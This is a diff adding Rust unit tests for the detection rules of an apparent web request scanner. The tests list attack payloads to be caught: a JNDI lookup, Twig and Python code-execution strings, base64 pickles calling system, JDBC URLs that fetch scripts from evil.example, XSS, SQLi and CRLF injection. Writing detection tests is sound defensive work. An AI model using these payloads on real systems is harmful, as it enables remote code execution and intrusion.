@@ -594,3 +594,196 @@ fn request_line_in_body() {
         ],
     );
 }
+
+#[test]
+fn out_of_band_domains() {
+    check_rule(
+        "scanner-oast-domain",
+        &[
+            "http://x7k2p9.oastify.com/",
+            "nslookup cnk3j1.interact.sh",
+            "abc123.burpcollaborator.net",
+            "http://abc.dnslog.cn/",
+            "x.abc123.ceye.io",
+            "${jndi:ldap://c0ffee.oast.fun/a}",
+        ],
+        &[
+            "https://interact.shop/cart",
+            "how to interact.share a file",
+            "ceyeio.example",
+            "https://oast.example.com/",
+        ],
+    );
+}
+
+#[test]
+fn scanner_header_names() {
+    check_rule(
+        "scanner-header",
+        &[
+            "acunetix-product",
+            "Acunetix-Scanning-agreement",
+            "x-scanner",
+            "x-wipp",
+        ],
+        &["x-scanner-id", "acunetix", "x-request-id", "user-agent"],
+    );
+}
+
+#[test]
+fn exploit_probe_paths() {
+    check_rule(
+        "scanner-exploit-path",
+        &[
+            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+            "/_ignition/execute-solution",
+            "/boaform/admin/formLogin",
+            "/GponForm/diag_Form",
+            "/HNAP1/",
+        ],
+        &[
+            "/docs/eval-stdin.php.html",
+            "/blog/ignition/execute-solution",
+            "/HNAP1/status",
+            "/products/hnap1",
+        ],
+    );
+}
+
+#[test]
+fn twig_callbacks() {
+    check_rule(
+        "ssti-twig-callback",
+        &[
+            r#"{{_self.env.registerUndefinedFilterCallback("exec")}}"#,
+            "{{['id']|filter('system')}}",
+            "{{['id']|map('passthru')|join}}",
+            "{{['id',0]|reduce('system')}}",
+            "{{['id',1]|sort('system')|join}}",
+            r#"{{_self.env.setCache("ftp://evil.example:2121")}}"#,
+        ],
+        &[
+            "{{ users|filter(u => u.active) }}",
+            "{{ items|map('upper') }}",
+            "a | filter('system settings')",
+            "self.env.getFilter",
+        ],
+    );
+}
+
+#[test]
+fn python_code_injection() {
+    check_rule(
+        "python-code-injection",
+        &[
+            "__import__('os').popen('id').read()",
+            "__import__ ('subprocess').check_output(['id'])",
+            "().__class__.__bases__[0].__subclasses__()",
+            "x.__globals__['os']",
+            "__builtins__.eval",
+        ],
+        &[
+            "self.__class__.__name__",
+            "the __init__ method",
+            "def __repr__(self):",
+            "import os",
+        ],
+    );
+}
+
+#[test]
+fn python_pickles_in_base64() {
+    check_rule(
+        "python-pickle-call",
+        &[
+            "Y29zCnN5c3RlbQooUydpZCcKdFIu",
+            "gASVLQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+            "gAJjc3VicHJvY2VzcwpjaGVja19vdXRwdXQKcQA=",
+        ],
+        &[
+            "eyJvcyI6InN5c3RlbSBkZWZhdWx0IiwidGhlbWUiOiJkYXJrIn0=",
+            "c3lzdGVtIHNldHRpbmdz",
+            "hello",
+        ],
+    );
+}
+
+#[test]
+fn jdbc_urls_with_code_options() {
+    check_rule(
+        "java-jdbc-url-attack",
+        &[
+            "jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+            "jdbc:h2:mem:;INIT=CREATE ALIAS EXEC AS 'void e(String c) throws Exception {}'",
+            "jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
+            "jdbc:mysql://evil.example/db?allowLoadLocalInfile=true",
+        ],
+        &[
+            "jdbc:postgresql://db.internal:5432/app?sslmode=require",
+            "jdbc:h2:mem:test;DB_CLOSE_DELAY=-1",
+            "jdbc:mysql://db/app?autoDeserialize=false",
+        ],
+    );
+}
+
+#[test]
+fn dotnet_process_start() {
+    check_rule(
+        "dotnet-process-start",
+        &[
+            r#"@{ var p = System.Diagnostics.Process.Start("cmd"); }"#,
+            r#"new System.Diagnostics.ProcessStartInfo("whoami")"#,
+            r#"Process.Start("powershell", "-c id")"#,
+        ],
+        &[
+            "the process starts at 9am",
+            "Process.Start(info) returns a Process",
+            "system diagnostics report",
+        ],
+    );
+}
+
+#[test]
+fn javascript_string_breakouts() {
+    check_rule(
+        "xss-js-string-breakout",
+        &[
+            "'-print()-'",
+            "'-alert(1)-'",
+            "\"+alert(document.domain)+\"",
+            "';alert(1)//",
+        ],
+        &[
+            "'-1'",
+            "'hello' + name(x) + '!'",
+            "he said '- see(below) -' later",
+            "O'Reilly - Learning(2nd) - book",
+        ],
+    );
+}
+
+#[test]
+fn quoted_signed_numbers_are_not_arithmetic() {
+    check_rule(
+        "sqli-operator-after-quote",
+        &["'-'", "1'-1-'", "admin'-'", "'+1+'", "x'|1|'", "'-1"],
+        &[
+            "{stamp:'-1',necessary:true,method:'explicit',ver:1}",
+            "offset '-1' applied",
+            "temperature \"-3.5\" today",
+        ],
+    );
+}
+
+#[test]
+fn unicode_line_breaks_in_arguments() {
+    check_rule(
+        "crlf-injection",
+        &[
+            "%E5%98%8A%E5%98%8DLocation:%20http://evil.example",
+            "\u{560a}\u{560d}Set-Cookie: a=b",
+            "\u{10d}\u{10a}X-Injected: 1",
+        ],
+        &["嘊嘍 今天", "klíč host: example.com", "čas"],
+    );
+}
